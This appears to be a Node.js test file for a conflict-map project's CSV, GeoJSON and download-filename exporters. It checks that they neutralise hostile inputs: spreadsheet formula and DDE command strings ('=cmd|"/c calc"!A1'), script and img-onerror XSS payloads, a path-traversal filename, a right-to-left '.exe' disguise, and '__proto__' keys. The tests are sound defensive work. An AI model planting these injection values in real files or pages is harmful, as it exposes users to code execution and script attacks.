import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import test from "node:test";

import { MISSING_TIME } from "../../../geoevents/maps/assets/data/columns.js";
import { Shapes } from "../../../geoevents/maps/assets/data/shapes.js";
import { cell, csvOf } from "../../../geoevents/maps/assets/tools/csv.js";
import { blobOf, changeFeatures, controlFeatures, fileName } from "../../../geoevents/maps/assets/tools/download.js";
import { areaGeometry, collectionOf, geojsonOf, geometryOf, nested } from "../../../geoevents/maps/assets/tools/geojson.js";
import { isoText } from "../../../geoevents/maps/assets/tools/values.js";

const PYTHON = process.env.PYTHON ?? "python3";

const HOSTILE = [
  "=1+1",
  "+1",
  "-1",
  "@SUM(A1)",
  "\tx",
  "\r=1",
  '=HYPERLINK("http://example.org?"&A1,"click")',
  "＝1+1",
  'a "quoted" word',
  "comma, here",
  "two\r\nlines",
  "</script><script>alert(1)</script>",
  "\u202eright to left\u202c",
  "قوات سوريا الديمقراطية",
  " spaces ",
  "\u2028line separator",
  "__proto__",
];

const minutes = (iso) => Date.parse(`${iso}Z`) / 60000;

const table = {
  columns: [
    { name: "event_type", kind: "text", codes: Uint8Array.from(HOSTILE, (_, i) => i % 2), values: ["air strike", "shelling"] },
    { name: "quote", kind: "text", values: HOSTILE },
    { name: "start", kind: "time", values: Int32Array.from(HOSTILE, (_, i) => (i ? minutes("2017-09-16T00:00") + i * 1440 : MISSING_TIME)) },
    { name: "seen", kind: "time", values: Int32Array.from(HOSTILE, (_, i) => minutes("2017-09-16T04:30") + i) },
    { name: "fatalities", kind: "number", values: Float64Array.from(HOSTILE, (_, i) => (i === 1 ? NaN : -i / 2)) },
    { name: '=cmd|"/c calc"!A1', kind: "text", codes: new Uint8Array(HOSTILE.length), values: [""] },
    { name: "__proto__", kind: "text", codes: new Uint8Array(HOSTILE.length), values: ["kept"] },
  ],
  position: (row) => [40.123456789 + row, 35.1],
  shape: () => null,
};
const rows = Uint32Array.from(HOSTILE.keys());

test("a CSV file is read by Python's csv as it was written, and no cell is a formula", () => {
  const file = join(mkdtempSync(join(tmpdir(), "csv-")), "events.csv");
  writeFileSync(file, [...csvOf(table, rows)].join(""));
  const program = "import csv, json, sys; print(json.dumps(list(csv.reader(open(sys.argv[1], encoding='utf-8-sig', newline='')))))";
  const read = JSON.parse(execFileSync(PYTHON, ["-c", program, file], { encoding: "utf8" }));
  assert.equal(read.length, HOSTILE.length + 1);
  assert.deepEqual(read[0], ["event_type", "quote", "start", "seen", "fatalities", `'=cmd|"/c calc"!A1`, "__proto__", "lon", "lat"]);
  for (const line of read.slice(1)) assert.equal(line.length, read[0].length);
  const texts = read.slice(1).map((line) => line[1]);
  texts.forEach((text, i) => {
    assert.doesNotMatch(text, /^[=+\-@\t\r＝]/);
    assert.equal(text.startsWith("'") ? text.slice(1) : text, HOSTILE[i]);
  });
  assert.deepEqual(read[1].slice(2), ["", "2017-09-16T04:30Z", "0", "", "kept", "40.12346", "35.1"]);
  assert.deepEqual(read[2].slice(2, 5), ["2017-09-17", "2017-09-16T04:31Z", ""]);
  assert.equal(read[3][4], "-1", "a negative number stays a number");
});

test("a CSV file begins with a byte order mark, and its lines end as RFC 4180 says", () => {
  const text = [...csvOf(table, [11])].join("");
  assert.equal(text.charCodeAt(0), 0xfeff);
  assert.match(text, /lat\r\n/);
  assert.ok(text.endsWith("\r\n"));
  const own = { ...table, columns: [{ name: "lon", kind: "text", values: HOSTILE }] };
  assert.match([...csvOf(own, [])].join(""), /^\ufefflon,map_lon,lat\r\n$/);
});

test("cells", () => {
  assert.equal(cell(null), "");
  assert.equal(cell(-5), "-5");
  assert.equal(cell("-5"), "'-5");
  assert.equal(cell('=A1&","'), `"'=A1&"","""`);
  assert.equal(cell("plain"), "plain");
});

test("a GeoJSON file holds every column, and is JSON whatever the texts are", () => {
  const { type, features } = JSON.parse([...geojsonOf(table, rows)].join(""));
  assert.equal(type, "FeatureCollection");
  assert.equal(features.length, HOSTILE.length);
  features.forEach(({ properties }, i) => assert.equal(properties.quote, HOSTILE[i]));
  assert.equal(Object.getOwnPropertyDescriptor(features[0].properties, "__proto__").value, "kept");
  const [first, second] = features.map(({ properties }) => properties);
  assert.deepEqual([first.start, first.seen, second.start, second.fatalities], [null, "2017-09-16T04:30Z", "2017-09-17", null]);
  assert.deepEqual(features[0].geometry, { type: "Point", coordinates: [40.12346, 35.1] });
  assert.deepEqual(JSON.parse([...geojsonOf(table, [])].join("")), { type: "FeatureCollection", features: [] });
});

test("longitudes are those of one turn of the world", () => {
  const beyond = { ...table, position: () => [190.5, 10] };
  const { features } = JSON.parse([...geojsonOf(beyond, [0])].join(""));
  assert.deepEqual(features[0].geometry.coordinates, [-169.5, 10]);
});

test("times are ISO 8601", () => {
  assert.equal(isoText(minutes("2017-09-16T00:00")), "2017-09-16");
  assert.equal(isoText(minutes("2017-09-16T04:30")), "2017-09-16T04:30Z");
  assert.equal(isoText(minutes("2017-09-16T00:00"), false), "2017-09-16T00:00Z");
  assert.equal(isoText(minutes("0079-08-24T00:00")), "0079-08-24");
});

const square = (west, south, size) => [[west, south], [west, south + size], [west + size, south + size], [west + size, south], [west, south]];
const signed = (ring) => ring.slice(1).reduce((sum, [x, y], i) => sum + ring[i][0] * y - x * ring[i][1], 0);

test("outer rings run counterclockwise, holes clockwise, all are closed", () => {
  const { type, coordinates } = areaGeometry([[square(0, 0, 10).slice(0, -1), square(2, 2, 2).reverse()]]);
  assert.equal(type, "Polygon");
  assert.ok(signed(coordinates[0]) > 0 && signed(coordinates[1]) < 0);
  for (const ring of coordinates) assert.deepEqual(ring[0], ring.at(-1));
  assert.equal(areaGeometry([]), null);
  assert.equal(areaGeometry([[square(0, 0, 1)], [square(5, 5, 1)]]).type, "MultiPolygon");
});

test("polygons are cut at the antimeridian", () => {
  const { type, coordinates } = areaGeometry([[square(175, 0, 10)]]);
  assert.equal(type, "MultiPolygon");
  const longitudes = coordinates.map(([ring]) => [Math.min(...ring.map(([x]) => x)), Math.max(...ring.map(([x]) => x))]);
  assert.deepEqual(longitudes, [[175, 180], [-180, -175]]);
});

test("rings are sorted into polygons, holes and islands in holes", () => {
  const rings = [square(3, 3, 1), square(0, 0, 10), square(2, 2, 4), square(20, 0, 2)];
  const polygons = nested(rings);
  assert.deepEqual(polygons.map((parts) => parts.length).sort(), [1, 1, 2]);
  assert.deepEqual(polygons.find((parts) => parts.length === 2), [rings[1], rings[2]]);
});

const packed = (paths, closed) =>
  new Shapes({
    scale: 1e5,
    x: Int32Array.from(paths.flat().map(([x]) => Math.round(x * 1e5))),
    y: Int32Array.from(paths.flat().map(([, y]) => Math.round(y * 1e5))),
    paths: paths.map((path) => path.length),
    features: [paths.length],
    closed,
  });

test("packed shapes come back as what they were", () => {
  const river = [[40, 35], [40.12345, 35.54321], [41, 36]];
  assert.deepEqual(geometryOf(packed([river], [0]), 0), { type: "LineString", coordinates: river });
  const { type, coordinates } = geometryOf(packed([square(40, 35, 2), square(40.5, 35.5, 1)], [1, 1]), 0);
  assert.equal(type, "Polygon");
  assert.deepEqual(coordinates[0].map(String).sort(), square(40, 35, 2).map(String).sort());
  assert.equal(coordinates.length, 2);
});

test("control and changes are written with their dates and ranges", () => {
  const control = {
    dates: Int32Array.of(minutes("2017-09-16T00:00")),
    actors: [{ name: '<img src=x onerror="alert(1)">' }],
    actor: [0],
    area: [300.000001],
    low: [NaN],
    high: [320],
    inferred: [1],
    uncertainty: [NaN],
    source: null,
    rowsAt: () => [0],
    rings: () => [[square(40, 35, 1)]],
  };
  const [held] = JSON.parse([...collectionOf(controlFeatures(control, 0))].join("")).features;
  assert.equal(held.properties.actor, '<img src=x onerror="alert(1)">');
  assert.deepEqual([held.properties.date, held.properties.area_low_km2, held.properties.area_high_km2, held.properties.inferred], ["2017-09-16", null, 320, true]);
  assert.equal(held.geometry.type, "Polygon");
  const change = { key: "0", fromName: "", toName: "SDF", area: 5, low: 4, high: 6, inferred: 0, coordinates: [[square(40, 35, 1)]] };
  const period = { before: minutes("2017-09-05T00:00"), after: minutes("2017-09-16T00:00") };
  const [changed] = JSON.parse([...collectionOf(changeFeatures([change, { key: "1" }], null, period))].join("")).features;
  assert.deepEqual([changed.properties.from_actor, changed.properties.to_actor, changed.properties.start, changed.properties.end], [null, "SDF", "2017-09-05", "2017-09-16"]);
});

test("names of files are letters, digits and dashes of any script", () => {
  assert.equal(fileName("Deir ez-Zor, September 2017", "events", "csv"), "Deir-ez-Zor-September-2017-events.csv");
  assert.equal(fileName("دير الزور ٢٠١٧", "", "png"), "دير-الزور-٢٠١٧.png");
  assert.equal(fileName("../../etc/passwd\u0000", "events", "csv"), "etc-passwd-events.csv");
  assert.equal(fileName('<script>"\u202egpj.exe', "events", "csv"), "script-gpj-exe-events.csv");
  assert.equal(fileName(null, "", "png"), "map.png");
  assert.equal(fileName("…", "events", "csv"), "map-events.csv");
  assert.equal(fileName("hindi हिन्दी", "", "png"), "hindi-हिन्दी.png");
  assert.ok(fileName("x".repeat(500), "events", "csv").length < 80);
});

test("pieces become one file", async () => {
  const blob = await blobOf(csvOf(table, rows), "text/csv");
  assert.equal(await blob.text(), [...csvOf(table, rows)].join("").slice(1), "Blob.text leaves out the byte order mark");
  assert.deepEqual([...new Uint8Array(await blob.arrayBuffer())].slice(0, 3), [0xef, 0xbb, 0xbf]);
});
